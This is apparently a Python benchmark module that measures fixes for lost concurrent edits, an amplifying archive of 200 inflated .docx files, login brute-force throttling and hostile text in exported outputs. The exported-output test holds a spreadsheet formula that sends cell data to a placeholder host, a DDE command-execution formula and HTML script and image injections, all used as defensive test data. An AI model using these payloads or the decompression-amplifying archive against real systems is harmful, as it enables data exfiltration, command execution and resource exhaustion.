"""Issue 13 figures, printed by ``python -m benchmarks reliability`` after the earlier ones.

- lost updates: 100 trials each of two writers on different parts, two on the same part, and a
  chat turn merged while the writer edits, all against the real SQLite store;
- amplifying zip: 200 .docx each unpacking to 19 MB of XML, through the web review's path
  (checked uploads, unpacking, review) in a child process: its CPU seconds and peak RSS;
- login throttling: wrong passwords over real HTTP for ``BENCH_LOGIN_SECONDS`` (default 15), then
  the time 50 would take from the throttle's schedule (the run checks the schedule is what the
  server does); and known vs unknown user names' answer times;
- hostile text: the names of the issue through every output; live formulas and unescaped tags.
"""

from __future__ import annotations

import io
import json
import os
import re
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

from assistant.paths import ROOT


def _together(*calls):
    barrier = threading.Barrier(len(calls))
    out: list = [None] * len(calls)

    def run(i, call):
        barrier.wait()
        out[i] = call()

    threads = [threading.Thread(target=run, args=(i, c)) for i, c in enumerate(calls)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return out


def lost_updates(folder: Path, trials: int = 100) -> None:
    from assistant.models import Scene, SceneParts
    from assistant.projects import ChatMessage, ProjectStore

    store = ProjectStore(folder / "data", "bench")
    project = store.create("并发")
    store.update(project.id, lambda p: setattr(p, "draft", Scene(domain="生产作业", parts=SceneParts())))
    started = time.perf_counter()
    lost = 0
    for t in range(trials):
        base = store.load(project.id).part_versions
        edits = [(k, f"{k}{t}", base.get(f"draft/{k}", 0)) for k in ("成效", "痛点")]
        _together(*(lambda e=e: store.save_part(project.id, None, *e) for e in edits))
        parts = store.load(project.id).draft.parts
        lost += (parts.成效 != f"成效{t}") + (parts.痛点 != f"痛点{t}")
    different = time.perf_counter() - started
    refused = overwritten = 0
    for t in range(trials):
        base = store.load(project.id).part_versions.get("draft/描述", 0)
        results = _together(
            *(lambda x=f"{x}{t}", v=base: store.save_part(project.id, None, "描述", x, v) for x in "甲乙")
        )
        stored = store.load(project.id).draft.parts.描述
        refused += sum(not r.saved for r in results)
        overwritten += sum(r.saved and r.yours != stored for r in results)
    turn_lost = 0
    for t in range(trials):
        turn = store.load(project.id)
        before = turn.model_copy(deep=True)
        turn.chat.append(ChatMessage(role="assistant", content=f"回复{t}"))
        turn.draft.parts.技术方案 = f"模型{t}"
        _together(
            lambda t=t: store.save_part(project.id, None, "经济性", f"人工{t}", None),
            lambda b=before, a=turn: store.merge(project.id, b, a),
        )
        stored = store.load(project.id)
        turn_lost += (stored.draft.parts.经济性 != f"人工{t}") + (stored.draft.parts.技术方案 != f"模型{t}")
        turn_lost += stored.chat[-1].content != f"回复{t}" and all(
            m.content != f"回复{t}" for m in stored.chat
        )
    print(
        f"lost updates: {lost} of {2 * trials} edits lost with two writers on different parts at once "
        f"({trials} trials, {different / trials * 1000:.0f} ms per trial); same part: {refused}/{trials} "
        f"stale saves refused with both texts, {overwritten} silent overwrites; chat turn merged while "
        f"the writer edits: {turn_lost} losses in {trials} trials (issue before: 26 of 100 lost)"
    )


def amplifying_zip(path: Path, members: int = 200, xml_mb: int = 19) -> Path:
    from testkit.hostile_files import sample_docx_bytes

    seed = zipfile.ZipFile(io.BytesIO(sample_docx_bytes()))
    document = seed.read("word/document.xml").decode("utf-8")
    paragraph = "<w:p><w:r><w:t>" + "智能工厂申报书正文" * 100 + "</w:t></w:r></w:p>"
    padding = paragraph * (xml_mb * 2**20 // len(paragraph.encode("utf-8")))
    document = document.replace("</w:body>", padding + "</w:body>", 1)
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        for item in seed.infolist():
            z.writestr(item.filename, document if item.filename == "word/document.xml" else seed.read(item))
    data = inner.getvalue()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for i in range(members):
            z.writestr(f"申报书{i:03d}.docx", data)
    return path


ZIP_CHILD = """
import json, resource, sys, time
from pathlib import Path
from assistant.config import Settings
from assistant.errors import InputError
from assistant.review.engine import review_batch
from assistant.webapp import access
settings = Settings(data_dir=Path(sys.argv[2]))
start = resource.getrusage(resource.RUSAGE_SELF)
outcome = "reviewed"
try:
    with access.review_workspace(settings) as (work, _):
        budget = access.RequestBudget(settings)
        paths = access.expand_uploads(access.checked_uploads([sys.argv[1]], settings), work, settings, budget)
        review_batch(paths, lambda *_: budget.check_time())
except InputError as err:
    outcome = str(err)
end = resource.getrusage(resource.RUSAGE_SELF)
cpu = (end.ru_utime + end.ru_stime) - (start.ru_utime + start.ru_stime)
status = Path("/proc/self/status").read_text().splitlines()
peak = next(int(line.split()[1]) for line in status if line.startswith("VmHWM")) / 1024
print(json.dumps({"outcome": outcome, "cpu": cpu, "peak_mb": peak}, ensure_ascii=False))
"""


def zip_case(folder: Path) -> None:
    path = amplifying_zip(folder / "amplifying.zip")
    with zipfile.ZipFile(path) as z:
        inner = z.read(z.infolist()[0])
    xml = sum(m.file_size for m in zipfile.ZipFile(io.BytesIO(inner)).infolist())
    proc = subprocess.run(
        [sys.executable, "-c", ZIP_CHILD, str(path), str(folder / "zipdata")],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=900,
    )
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    print(
        f"amplifying zip: {path.stat().st_size / 2**20:.1f} MB zip of 200 .docx, each unpacking to "
        f"{xml / 2**20:.0f} MB: {report['cpu']:.1f} s CPU, peak RSS {report['peak_mb']:.0f} MB "
        f"(target ≤30 s, ≤300 MB; issue before: 517 s, 878 MB) — {report['outcome'][:70]}"
    )


def login_throttling(folder: Path) -> None:
    import httpx

    from app import build_app, serve
    from assistant.config import Settings
    from assistant.webapp import access, guard
    from benchmarks.app_process import free_port

    seconds = float(os.environ.get("BENCH_LOGIN_SECONDS", "15"))
    users = folder / "users.txt"
    access.add_user(users, "alice", "correct horse")
    settings = Settings(data_dir=folder / "logindata", users_file=users)
    os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"
    demo = build_app(settings)
    port = free_port()
    throttle = guard.LoginThrottle()
    auth = guard.login_check(guard.UsersFile(users), throttle)
    serve(demo, settings, "127.0.0.1", port, auth=auth, prevent_thread_lock=True, quiet=True)
    url = f"http://127.0.0.1:{port}/login"
    try:
        times, started = [], time.perf_counter()
        while time.perf_counter() - started < seconds:
            t0 = time.perf_counter()
            response = httpx.post(url, data={"username": "alice", "password": "guess"}, timeout=120)
            assert response.status_code == 400
            times.append(time.perf_counter() - t0)
        schedule = [min(throttle.base * 2 ** (n - 1), throttle.cap) if n else 0.0 for n in range(50)]
        measured = sum(times)
        print(
            f"login throttling: {len(times)} wrong passwords took {measured:.1f} s over HTTP (schedule "
            f"says {sum(schedule[: len(times)]):.1f} s); 50 would take ≥ {sum(schedule):.0f} s by the "
            f"same schedule (extrapolated, not run; target ≥30 s; issue before: 2.9 s)"
        )
    finally:
        demo.close()
    fast = guard.login_check(guard.UsersFile(users), guard.LoginThrottle(base=0.0))
    import asyncio

    def median_ms(name: str) -> float:
        runs = []
        for _ in range(7):
            t0 = time.perf_counter()
            asyncio.run(fast(name, "wrong"))
            runs.append((time.perf_counter() - t0) * 1000)
        return statistics.median(runs)

    print(
        f"  answer time, wrong password: known user {median_ms('alice'):.0f} ms, unknown user "
        f"{median_ms('nobody'):.0f} ms (issue before: 53 ms vs 2.3 ms)"
    )


def hostile_outputs(folder: Path) -> None:
    from openpyxl import load_workbook
    from typer.testing import CliRunner

    from assistant.cli import app as cli
    from assistant.docx_io.writer import export_docx
    from assistant.models import Application
    from assistant.paths import SAMPLES_DIR
    from assistant.review.engine import review_batch
    from assistant.review.outputs import batch_markdown, write_xlsx
    from assistant.safe_text import escape_html, inert_markdown, is_formula_like
    from assistant.webapp import views

    names = [
        '=HYPERLINK("http://x.example/?"&A2,"a")',
        "=cmd|' /C calc'!A0",
        "<img src=http://127.0.0.1:9/x>",
        "<script>alert(1)</script>",
    ]
    app = Application.model_validate_json((SAMPLES_DIR / "sample-application.json").read_text("utf-8"))
    app.applicant, app.project_name = names[0], names[1]
    app.scenes[0].instance, app.scenes[1].instance = names[2], names[3]
    docx = export_docx(app, folder / "hostile.docx")
    runner = CliRunner()
    books = [folder / "review.xlsx", folder / "summary.xlsx", folder / "web.xlsx"]
    runner.invoke(cli, ["review", str(docx), "--format", "xlsx", "--out", str(books[0])])
    runner.invoke(cli, ["summary", str(docx), "--out", str(books[1])])
    batch = review_batch([docx])
    write_xlsx(batch, books[2])
    cells = live = 0
    for book in books:
        for ws in load_workbook(book).worksheets:
            for row in ws.iter_rows():
                for c in row:
                    cells += c.value is not None
                    live += c.data_type == "f" or (is_formula_like(c.value) and not c.quotePrefix)
    runner.invoke(cli, ["review", str(docx), "--format", "md", "--out", str(folder / "r.md")])
    texts = [
        (folder / "r.md").read_text("utf-8"),
        batch_markdown(batch),
        *(escape_html(f"已放入申报书：{n}") for n in names),  # the toast
        *(inert_markdown(n) for n in names),  # the chat
        views.draft_header(app.scenes[0]),
        views.draft_header(app.scenes[1]),
    ]
    tags = sum(len(re.findall(r"<\s*(?:img|script)\b", t, re.I)) for t in texts)
    print(
        f"hostile text: {live} live formulas in {cells} cells of 3 workbooks (review, summary, web); "
        f"{tags} unescaped tags in {len(texts)} Markdown/HTML outputs (report, toast, chat, draft header)"
    )


def main() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        lost_updates(folder)
        hostile_outputs(folder)
        zip_case(folder)
        login_throttling(folder)
